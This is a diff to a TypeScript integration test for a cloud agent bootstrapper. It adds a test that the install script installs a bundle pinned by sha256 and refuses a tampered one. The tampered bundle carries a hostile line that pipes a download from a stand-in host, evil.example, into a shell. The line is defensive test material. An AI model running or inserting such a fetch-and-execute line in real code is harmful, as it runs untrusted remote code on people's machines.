@@ -4,13 +4,15 @@
  * "agent" is a stand-in script (the real one needs a Hangar; test/integration/cloud.test.ts runs
  * it), so the test can look at exactly what the process was given.
  */
-import { randomUUID } from 'node:crypto';
+import { createHash, randomUUID } from 'node:crypto';
 import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { renderUserData } from '../../src/bootstrap/cloud-init.ts';
+import { bootstrapInput } from '../../src/bootstrap/fixtures.testing.ts';
 import { createAgentBoot, type AgentProcess } from './boot.ts';
 import { startDigitalOceanEmulator } from './digitalocean.ts';
 import { startHetznerEmulator } from './hetzner.ts';
@@ -19,7 +21,7 @@ import { bootstrapFor, call, cloudConfig, until } from './test-helpers.ts';
 
 /** The snapshot builder renderer, when the bootstrap module has it (it is developed alongside). */
 const cloudInit = (await import('../../src/bootstrap/cloud-init.ts').catch(() => null)) as {
-  renderSnapshotBuilderUserData?: (i: { provider: 'hetzner' | 'digital-ocean'; bootstrapVersion: string; apiUrl: string; buildId: string; buildToken: string }) => string;
+  renderSnapshotBuilderUserData?: (i: { provider: 'hetzner' | 'digital-ocean'; bootstrapVersion: string; apiUrl: string; buildId: string; buildToken: string; agentBundleSha256: string }) => string;
 } | null;
 
 /** A stand-in agent: records its argv and config, "enrolls" (writes state.json), runs until SIGTERM. */
@@ -123,6 +125,41 @@ describe('createAgentBoot', () => {
     }
   });
 
+  it("gets the agent with the user-data's own install script: boots the pinned bundle, refuses a tampered one", async () => {
+    let served = FAKE_AGENT;
+    const api = createServer((req, res) => (req.url === '/v1/agent/bundle' ? res.end(served) : res.writeHead(404).end()));
+    await new Promise<void>((r) => api.listen(0, '127.0.0.1', r));
+    const apiUrl = `http://127.0.0.1:${(api.address() as AddressInfo).port}`;
+    const boot = createAgentBoot({ fetchBundle: true, tmpRoot: work });
+    const hz = await startHetznerEmulator({ boot, bootDelayMs: 10, actionDelayMs: 10 });
+    // Real user-data, as Hangar renders it: the install script pins the bundle's sha256.
+    const userData = (name: string) => {
+      const b = { ...bootstrapFor(name), apiUrl };
+      return { b, ud: renderUserData(bootstrapInput({ path: 'snapshot', bootstrap: b, agentBundleSha256: createHash('sha256').update(FAKE_AGENT).digest('hex') })) };
+    };
+    try {
+      const good = userData('pinned');
+      const r1 = await call(hz.baseUrl, hz.token, 'POST', '/servers', { name: good.b.serverName, server_type: 'cpx22', image: 'ubuntu-24.04', user_data: good.ud });
+      const id1 = String(r1.body.server.id);
+      await until(() => boot.processes.has(id1), 10_000);
+      const proc = boot.processes.get(id1) as AgentProcess;
+      expect(await proc.enrolled).toMatchObject({ agentId: 'agent-1', serverName: good.b.serverName });
+      expect(readFileSync(join(proc.dir, 'rootfs/opt/hangar/agent/agent.mjs'), 'utf8')).toBe(FAKE_AGENT);
+
+      served = `${FAKE_AGENT}require('node:child_process').execSync('curl -s http://evil.example | sh');\n`;
+      const bad = userData('tampered');
+      const r2 = await call(hz.baseUrl, hz.token, 'POST', '/servers', { name: bad.b.serverName, server_type: 'cpx22', image: 'ubuntu-24.04', user_data: bad.ud });
+      const id2 = String(r2.body.server.id);
+      await until(() => hz.state.booter.records.some((x) => x.id === id2 && x.error), 30_000);
+      const rec = hz.state.booter.records.find((x) => x.id === id2)!;
+      expect(rec.error).toMatch(/refusing to install the agent bundle: its sha256 is [0-9a-f]{64}, expected [0-9a-f]{64}/);
+      expect(boot.processes.has(id2)).toBe(false);
+    } finally {
+      await hz.stop();
+      api.close();
+    }
+  });
+
   it.skipIf(!cloudInit?.renderSnapshotBuilderUserData)('plays a snapshot builder: reports ready with its build token (retrying a 503), then powers off', async () => {
     const seen: { path: string; auth: string | undefined; body: unknown }[] = [];
     const api = createServer((req, res) => {
@@ -139,7 +176,7 @@ describe('createAgentBoot', () => {
       const buildId = randomUUID();
       const buildToken = `hgs_${'t'.repeat(32)}`;
       const apiUrl = `http://127.0.0.1:${(api.address() as AddressInfo).port}`;
-      const userData = cloudInit!.renderSnapshotBuilderUserData!({ provider: 'hetzner', bootstrapVersion: 'dev', apiUrl, buildId, buildToken });
+      const userData = cloudInit!.renderSnapshotBuilderUserData!({ provider: 'hetzner', bootstrapVersion: 'dev', apiUrl, buildId, buildToken, agentBundleSha256: 'f'.repeat(64) });
       const r = await call(hz.baseUrl, hz.token, 'POST', '/servers', { name: 'hangar-builder-1', server_type: 'cpx22', image: 'ubuntu-24.04', user_data: userData });
       expect(r.status).toBe(201);
       await hz.waitForServer(r.body.server.id, 'off', 10_000);
